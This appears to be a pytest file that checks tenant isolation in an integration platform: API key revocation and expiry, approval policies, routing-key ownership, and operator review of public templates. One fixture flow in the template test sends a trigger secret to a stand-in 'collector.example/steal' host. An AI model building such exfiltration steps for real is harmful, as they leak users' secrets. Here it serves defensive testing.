"""Attacks on tenant rules (issue 11, part 3), sent over HTTP as an outsider or another tenant would."""

from __future__ import annotations

import asyncio
import json
import time
from datetime import timedelta

import pytest
from click.testing import CliRunner
from sqlalchemy import func, select, update

from patchbay import Provider, WebhookHandler, hookimpl
from patchbay.cli.main import cli
from patchbay.core.appkeys import SERVICES
from patchbay.core.approvals.models import ApprovalPolicy
from patchbay.core.connections.models import Connection
from patchbay.core.security import service as credentials
from patchbay.core.security.api_keys import IssuedKey, create_api_key
from patchbay.core.security.models import ApiKey
from patchbay.core.security.permissions import ROLE_PERMISSIONS
from patchbay.core.testing import create_workspace_with_key, sign_access_token
from patchbay.core.timeutil import utcnow
from patchbay.core.users.service import create_user
from patchbay.core.workspaces.service import add_member

pytestmark = pytest.mark.both_databases  # storage behaviour differs between SQLite and PostgreSQL here (docs/testing.md)

KEYS = "/connect/v1/api-keys"


async def _leaked_key(app, workspace_id: str, **options) -> IssuedKey:
    async with app[SERVICES].db.transaction() as session:
        issued = await create_api_key(session, app[SERVICES].secrets, workspace_id=workspace_id, name="leaked", **options)
    return issued


# -- 7. API keys: list, revoke, expiry ------------------------------------------------------------


async def test_leaked_key_is_listed_without_its_secret_and_revoked(client, workspace):
    leaked = await _leaked_key(client.server.app, workspace["workspace_id"])
    assert (await client.get(KEYS, headers={"x-api-key": leaked.key})).status == 200

    listing = await client.get(KEYS, headers=workspace["headers"])
    body = await listing.json()
    assert listing.status == 200
    assert leaked.record.id in {key["id"] for key in body["data"]} and len(body["data"]) == 2
    text = await listing.text()
    assert leaked.key not in text and leaked.record.key_digest not in text and workspace["api_key"] not in text
    assert [k["status"] for k in body["data"]] == ["active", "active"]

    revoked = await client.delete(f"{KEYS}/{leaked.record.id}", headers=workspace["headers"])
    assert revoked.status == 200 and (await revoked.json())["revoked"] is True
    refused = await client.get(KEYS, headers={"x-api-key": leaked.key})
    assert refused.status == 401
    listed = {k["id"]: k for k in (await (await client.get(KEYS, headers=workspace["headers"])).json())["data"]}
    assert listed[leaked.record.id]["status"] == "revoked" and listed[leaked.record.id]["revokedAt"]
    again = await client.delete(f"{KEYS}/{leaked.record.id}", headers=workspace["headers"])
    assert again.status == 404 and set(await again.json()) == {"statusCode", "message"}


async def test_other_tenant_cannot_list_or_revoke_a_key(client, workspace):
    other = await create_workspace_with_key(client.server.app, name="Other")
    listing = await (await client.get(KEYS, headers=other["headers"])).json()
    assert all(key["workspaceId"] == other["workspace_id"] for key in listing["data"]) and len(listing["data"]) == 1

    async with client.server.app[SERVICES].db.session() as session:
        victim_key_id = await session.scalar(select(ApiKey.id).where(ApiKey.workspace_id == workspace["workspace_id"]))
    response = await client.delete(f"{KEYS}/{victim_key_id}", headers=other["headers"])
    assert response.status == 404
    assert (await client.get(KEYS, headers=workspace["headers"])).status == 200


async def test_revoking_needs_workspace_admin(client, workspace):
    weak = await create_workspace_with_key(client.server.app, name="Weak", permissions=["connections.view", "connections.write"])
    async with client.server.app[SERVICES].db.session() as session:
        key_id = await session.scalar(select(ApiKey.id).where(ApiKey.workspace_id == weak["workspace_id"]))
    assert (await client.get(KEYS, headers=weak["headers"])).status == 403
    assert (await client.delete(f"{KEYS}/{key_id}", headers=weak["headers"])).status == 403


async def test_expired_key_is_refused(client, workspace):
    app = client.server.app
    expiring = await _leaked_key(app, workspace["workspace_id"], expires_in=timedelta(hours=1))
    async with app[SERVICES].db.transaction() as session:
        await session.execute(update(ApiKey).where(ApiKey.id == expiring.record.id).values(expires_at=utcnow() - timedelta(seconds=1)))
    assert (await client.get(KEYS, headers={"x-api-key": expiring.key})).status == 401
    listed = {k["id"]: k for k in (await (await client.get(KEYS, headers=workspace["headers"])).json())["data"]}
    assert listed[expiring.record.id]["status"] == "expired" and listed[expiring.record.id]["expiresAt"]


@pytest.mark.slow  # about 1 s (setup and call)
async def test_a_cached_key_stops_working_when_it_expires(client, workspace):
    expiring = await _leaked_key(client.server.app, workspace["workspace_id"], expires_in=timedelta(seconds=1))
    assert (await client.get(KEYS, headers={"x-api-key": expiring.key})).status == 200  # now cached
    deadline = time.monotonic() + 3  # expiry plus slack, well within the cache lifetime
    status = 200
    while status == 200 and time.monotonic() < deadline:
        status = (await client.get(KEYS, headers={"x-api-key": expiring.key})).status
        if status == 200:
            await asyncio.sleep(0.1)
    assert status == 401


@pytest.mark.slow  # about 5 s (setup and call)
async def test_revocation_reaches_another_process_within_the_cache_lifetime(aiohttp_client, make_app):
    first = await aiohttp_client(make_app())
    second = await aiohttp_client(make_app())  # another process: its own engine and key cache
    admin = await create_workspace_with_key(first.server.app)
    leaked = await _leaked_key(first.server.app, admin["workspace_id"])
    assert (await second.get(KEYS, headers={"x-api-key": leaked.key})).status == 200  # now cached there

    assert (await first.delete(f"{KEYS}/{leaked.record.id}", headers=admin["headers"])).status == 200
    deadline = time.monotonic() + credentials.API_KEY_CACHE_SECONDS + 5  # the documented lifetime, plus slack for a loaded machine
    status = 200
    while status == 200 and time.monotonic() < deadline:
        status = (await second.get(KEYS, headers={"x-api-key": leaked.key})).status
        if status == 200:
            await asyncio.sleep(0.2)
    assert status == 401


async def test_last_used_is_written_at_most_once_a_minute(client, workspace):
    app = client.server.app
    key = await _leaked_key(app, workspace["workspace_id"])

    async def use_and_read():
        credentials.forget_cached_api_keys(app[SERVICES])  # every call reads the database, as after the cache lifetime
        assert (await client.get(KEYS, headers={"x-api-key": key.key})).status == 200
        async with app[SERVICES].db.session() as session:
            return await session.scalar(select(ApiKey.last_used_at).where(ApiKey.id == key.record.id))

    first = await use_and_read()
    assert first is not None
    recent = utcnow() - timedelta(seconds=30)
    async with app[SERVICES].db.transaction() as session:
        await session.execute(update(ApiKey).where(ApiKey.id == key.record.id).values(last_used_at=recent))
    assert await use_and_read() == recent  # within the minute: no write
    stale = utcnow() - timedelta(minutes=2)
    async with app[SERVICES].db.transaction() as session:
        await session.execute(update(ApiKey).where(ApiKey.id == key.record.id).values(last_used_at=stale))
    assert await use_and_read() > stale


# -- 8. approval policy and imports ---------------------------------------------------------------

POLICY = "/connect/v1/approvals/policy"


class _OAuthPack:
    @hookimpl
    def register_providers(self):
        return [
            Provider(
                name="tenantcrm",
                display_name="Tenant CRM",
                category="crm",
                auth_mode="oauth2",
                authorization_url="http://127.0.0.1:9/authorize",
                token_url="http://127.0.0.1:9/token",
                api_base_url="http://127.0.0.1:9/api",
                capabilities=("oauth",),
            )
        ]


async def _member_headers(app, workspace_id: str, email: str, role: str) -> dict[str, str]:
    async with app[SERVICES].db.transaction() as session:
        user = await create_user(session, email=email, password=None)
        await add_member(session, workspace_id=workspace_id, user_id=user.id, role=role)
    claims = {"sub": user.id, "client_id": "console", "organization_id": workspace_id, "permissions": sorted(ROLE_PERMISSIONS[role])}
    return {"Authorization": f"Bearer {await sign_access_token(app, claims)}"}


async def test_manager_cannot_rewrite_the_approval_policy(aiohttp_client, make_app, database_url):
    app = make_app(database_url=database_url)
    client = await aiohttp_client(app)
    ws = await create_workspace_with_key(app)
    manager = await _member_headers(app, ws["workspace_id"], "manager@example.test", "manager")
    admin = await _member_headers(app, ws["workspace_id"], "admin@example.test", "admin")
    assert (await client.patch(POLICY, json={"enabled": True, "categories": ["crm"]}, headers=admin)).status == 200

    for attack in ({"approverRoles": ["admin", "manager"]}, {"enabled": False}, {"categories": []}):
        response = await client.patch(POLICY, json=attack, headers=manager)
        assert response.status == 403 and set(await response.json()) == {"statusCode", "message"}
    async with app[SERVICES].db.session() as session:
        policy = await session.scalar(select(ApprovalPolicy))
    assert (policy.enabled, policy.categories, policy.approver_roles) == (True, ["crm"], ["admin"])


async def test_import_passes_the_approval_gate(aiohttp_client, make_app, database_url):
    app = make_app(plugins=[_OAuthPack()], database_url=database_url)
    client = await aiohttp_client(app)
    ws = await create_workspace_with_key(app, plan="enterprise")
    manager = await _member_headers(app, ws["workspace_id"], "manager@example.test", "manager")
    assert (await client.patch(POLICY, json={"enabled": True, "providers": ["tenantcrm"]}, headers=ws["headers"])).status == 200
    body = {"providerType": "tenantcrm", "credentials": {"accessToken": "victim-token"}}

    refused = await client.post("/api/connections/import", json=body, headers=manager)
    assert refused.status == 403 and "approver" in (await refused.json())["message"]
    async with app[SERVICES].db.session() as session:
        assert await session.scalar(select(func.count()).select_from(Connection)) == 0
    approver = await client.post("/api/connections/import", json=body, headers=ws["headers"])  # an organization key approves
    assert approver.status == 201, await approver.text()


# -- 11. routing keys are held by one workspace ---------------------------------------------------


class _PageWebhooks(WebhookHandler):
    routing_metadata_keys = ("page_id",)

    def events(self, payload):
        return []

    def routing_keys(self, event):
        return [("page_id", str(event.data["page_id"]))]


class _RoutedPack(_OAuthPack):
    @hookimpl
    def register_providers(self):
        return [
            *super().register_providers(),
            Provider(name="pagehook", display_name="Page Hook", category="crm", auth_mode="api_key", api_base_url="http://127.0.0.1:9/api"),
        ]

    @hookimpl
    def register_webhooks(self, register):
        register("pagehook", _PageWebhooks())
        register("tenantcrm", _PageWebhooks())


async def test_a_tenant_cannot_claim_another_tenants_routing_key(aiohttp_client, make_app, database_url):
    app = make_app(plugins=[_RoutedPack()], database_url=database_url)
    client = await aiohttp_client(app)
    owner = await create_workspace_with_key(app, name="Owner", plan="enterprise")
    intruder = await create_workspace_with_key(app, name="Intruder", plan="enterprise")
    connect = "/connect/v1/providers/pagehook/connect"
    held = await client.post(connect, json={"credentials": {"apiKey": "k-owner"}, "metadata": {"page_id": "p-1"}}, headers=owner["headers"])
    assert held.status == 201, await held.text()

    on_connect = await client.post(connect, json={"credentials": {"apiKey": "k-x"}, "metadata": {"page_id": "p-1"}}, headers=intruder["headers"])
    assert on_connect.status == 409 and "page_id=p-1" in (await on_connect.json())["message"]
    on_import = await client.post(
        "/api/connections/import",
        headers=intruder["headers"],
        json={"providerType": "tenantcrm", "credentials": {"accessToken": "t"}, "metadata": {"page_id": "p-1"}},
    )
    assert on_import.status == 201  # another provider's page_id is another key
    on_import = await client.post(
        "/api/connections/import",
        headers=owner["headers"],
        json={"providerType": "tenantcrm", "credentials": {"accessToken": "t"}, "metadata": {"page_id": "p-1"}},
    )
    assert on_import.status == 409 and "page_id=p-1" in (await on_import.json())["message"]

    own = await client.post(connect, json={"credentials": {"apiKey": "k-x"}, "metadata": {"label": "mine"}}, headers=intruder["headers"])
    own_id = (await own.json())["connectionId"]
    patched = await client.patch(f"/connect/v1/connections/{own_id}", json={"metadata": {"page_id": "p-1", "label": "stolen"}}, headers=intruder["headers"])
    assert patched.status == 409 and "page_id=p-1" in (await patched.json())["message"]
    async with app[SERVICES].db.session() as session:
        assert (await session.get(Connection, own_id)).meta == {"label": "mine"}  # nothing else changed
        assert await session.scalar(select(func.count()).select_from(Connection).where(Connection.provider == "pagehook")) == 2
    same_owner = await client.patch(
        f"/connect/v1/connections/{(await held.json())['connectionId']}", json={"metadata": {"page_id": "p-1"}}, headers=owner["headers"]
    )
    assert same_owner.status == 200


# -- 12. public templates only after an operator's review -----------------------------------------


async def test_template_is_public_only_after_operator_review(aiohttp_client, make_app, sqlite_url, monkeypatch, tmp_path):
    app = make_app()
    client = await aiohttp_client(app)
    author = await create_workspace_with_key(app, name="Author")
    other = await create_workspace_with_key(app, name="Other")
    steps = [{"id": "s", "type": "http", "method": "POST", "url": "https://collector.example/steal", "headers": {"X-Token": "{{ trigger.secret }}"}}]
    flow = await (await client.post("/connect/v1/flows", json={"name": "Helpful", "steps": steps}, headers=author["headers"])).json()
    published = await client.post(f"/connect/v1/flows/{flow['id']}/publish-as-template", json={"visibility": "public"}, headers=author["headers"])
    template = await published.json()
    assert published.status == 201 and template["visibility"] == "pending_review"
    listed = [t["slug"] for t in await (await client.get("/connect/v1/flow-templates", headers=other["headers"])).json()]
    assert template["slug"] not in listed
    assert (await client.post(f"/connect/v1/flow-templates/{template['slug']}/clone", json={}, headers=other["headers"])).status == 404

    monkeypatch.setenv("PATCHBAY_DATABASE_URL", sqlite_url)  # the operator's CLI on the same database
    monkeypatch.setenv("PATCHBAY_DATA_DIR", str(tmp_path / "cli"))
    monkeypatch.setenv("PATCHBAY_SECRET_KEY", "cli-secret")

    async def operator(*args: str):
        return await asyncio.to_thread(CliRunner().invoke, cli, list(args))  # the CLI runs its own event loop

    pending = json.loads((await operator("templates", "list", "--json")).output)
    assert [t["slug"] for t in pending] == [template["slug"]]
    approved = await operator("templates", "approve", template["slug"], "--json")
    assert approved.exit_code == 0 and json.loads(approved.output)["visibility"] == "public"
    assert (await client.get(f"/connect/v1/flow-templates/{template['slug']}", headers=other["headers"])).status == 200

    # republishing an approved template (its steps may have changed) sends it back to review
    again = await (await client.post(f"/connect/v1/flows/{flow['id']}/publish-as-template", json={"visibility": "public"}, headers=author["headers"])).json()
    assert again["visibility"] == "pending_review"
    assert (await client.get(f"/connect/v1/flow-templates/{template['slug']}", headers=other["headers"])).status == 404
    missing = await operator("templates", "approve", "no-such-template")
    assert missing.exit_code != 0 and "no template pending review" in missing.output
